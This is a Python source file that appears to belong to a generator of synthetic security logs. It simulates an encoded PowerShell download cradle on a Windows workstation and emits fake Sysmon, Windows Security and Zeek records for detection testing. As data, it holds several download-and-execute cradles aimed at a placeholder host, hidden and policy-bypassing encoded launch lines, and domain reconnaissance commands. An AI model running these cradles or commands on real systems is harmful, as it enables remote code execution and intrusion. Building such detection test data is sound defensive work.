"""Running an encoded PowerShell command that fetches and runs a script."""

from __future__ import annotations

from base64 import b64encode
from typing import ClassVar, Final

from flows.traffic.clock import SECOND
from flows.traffic.fleet import Fleet
from flows.traffic.habits.network import resolve
from flows.traffic.lines import windows_security, windows_sysmon, zeek
from flows.traffic.lines.flow import flow
from flows.traffic.message import Tape
from flows.traffic.scenario import Scenario, stranger
from flows.traffic.words import Parent, Program

_SYSTEM: Final = "C:\\Windows\\System32\\"
_POWERSHELL: Final = _SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe"
_WORD: Final = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
_PARENTS: Final = (
    Parent(_WORD, f'"{_WORD}" /n "C:\\Users\\Public\\Downloads\\invoice.docm"'),
    Parent(_SYSTEM + "cmd.exe", "cmd.exe /c start.bat"),
    Parent(_SYSTEM + "wbem\\WmiPrvSE.exe", _SYSTEM + "wbem\\wmiprvse.exe -secured -Embedding"),
)
_CRADLES: Final = (
    "IEX (New-Object Net.WebClient).DownloadString('http://{name}/{page}')",
    "Invoke-Expression ((New-Object System.Net.WebClient).DownloadString('http://{name}/{page}'))",
    "$d=(New-Object Net.WebClient).DownloadData('http://{name}/{page}');IEX ([Text.Encoding]::UTF8.GetString($d))",
    "IEX (Invoke-WebRequest -UseBasicParsing 'http://{name}/{page}').Content",
)
_COMMANDS: Final = (
    "powershell.exe -nop -w hidden -enc {code}",
    "powershell -NoProfile -ExecutionPolicy Bypass -EncodedCommand {code}",
    "PowerShell.exe -NonI -W Hidden -NoP -Exec Bypass -Enc {code}",
    "powershell.exe /e {code}",
)
_QUESTIONS: Final = (
    ("whoami.exe", "whoami /all"),
    ("net.exe", 'net group "Domain Admins" /domain'),
    ("nltest.exe", "nltest /dclist:"),
)


class EncodedPowershell(Scenario):
    """Starts powershell.exe with an encoded download cradle, which fetches a script and runs commands from it."""

    name: ClassVar[str] = "encoded_powershell"
    title: ClassVar[str] = "Encoded PowerShell with a download cradle"
    techniques: ClassVar[tuple[str, ...]] = ("T1059.001", "T1027.010", "T1105")
    expects: ClassVar[tuple[str, ...]] = ("Encoded PowerShell command line", "PowerShell download cradle in a script")

    def act(self, tape: Tape, fleet: Fleet, start: int) -> None:
        """Run on one Windows host, most likely a workstation."""
        victim = fleet.any_of(tape, "workstation", "workstation", "files", "controller")
        name, ip = f"{tape.letters(9)}.example.net", stranger(tape)
        cradle = tape.pick(_CRADLES).format(name=name, page=f"{tape.letters(6)}.ps1")
        command = tape.pick(_COMMANDS).format(code=b64encode(cradle.encode("utf-16-le")).decode())
        user = f"CORP\\{victim.user}"
        stage = Program(_POWERSHELL, command, tape.pick(_PARENTS), "Windows PowerShell")
        windows_sysmon.process(tape, start, victim, stage, user)
        windows_security.process(tape, start + 2_000, victim, stage, victim.user)
        windows_sysmon.script(tape, start + SECOND, victim, cradle)
        resolve(tape, fleet, victim, start + SECOND + 50_000, name, ip)
        windows_sysmon.dns(tape, start + SECOND + 60_000, victim, _POWERSHELL, name, ip, user)
        windows_sysmon.connection(tape, start + SECOND + 90_000, victim, _POWERSHELL, ip, 80, name, user)
        fetched = flow(tape, fleet, start + SECOND + 90_000, victim, ip, 80)
        zeek.conn(tape, fetched, "http", 0.6, 240, 48_000)
        page = cradle.split(name, 1)[1].partition("'")[0]
        zeek.http(tape, fetched, "GET", name, page, "-", 200, 0, 47_600)
        time = start + 3 * SECOND
        for program, command_line in _QUESTIONS:
            time += tape.integer(1, 6) * SECOND
            child = Program(_SYSTEM + program, command_line, Parent(_POWERSHELL, command), program)
            windows_sysmon.process(tape, time, victim, child, user)
